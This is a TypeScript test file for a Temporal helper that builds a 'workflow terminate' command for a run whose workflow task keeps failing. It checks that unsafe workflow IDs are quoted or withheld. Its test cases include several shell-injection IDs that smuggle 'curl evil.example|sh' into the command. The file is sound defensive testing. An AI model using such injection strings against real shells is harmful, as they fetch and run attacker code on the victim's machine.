/** What is told of a run whose workflow task fails can be pasted, whatever ID somebody chose for it. */
import type { Client } from '@temporalio/client';
import { describeMend, failingTasks } from '../../src/temporal/failing-tasks';

const failed = { workflowTaskFailedEventAttributes: { cause: 0 }, eventTime: { seconds: 1_700_000_000 } };

/** Of it the last five workflow tasks have failed. */
const client = {
  options: { namespace: 'default' },
  workflow: {
    getHandle: () => ({
      describe: async () => ({ raw: { pendingWorkflowTask: { attempt: 5 } }, runId: 'run', type: 'convertLead' }),
    }),
  },
  workflowService: { getWorkflowExecutionHistoryReverse: async () => ({ history: { events: [failed] } }) },
} as unknown as Client;

test.each([
  ['convert-lead.default.1', 'convert-lead.default.1'],
  ['leads of this week', "'leads of this week'"],
  ["x'; curl evil.example|sh; '", '<run>'],
  ['x"; curl evil.example|sh; "', '<run>'],
  ['$(curl evil.example)', '<run>'],
  ['a\n curl evil.example', '<run>'],
])('%j', async (workflowId, shown) => {
  const failing = await failingTasks(client, workflowId);
  expect(failing?.mend).toContain(`temporal workflow terminate --workflow-id ${shown} (`);
  expect(failing && describeMend(failing)).toContain('the workflow task of');
});
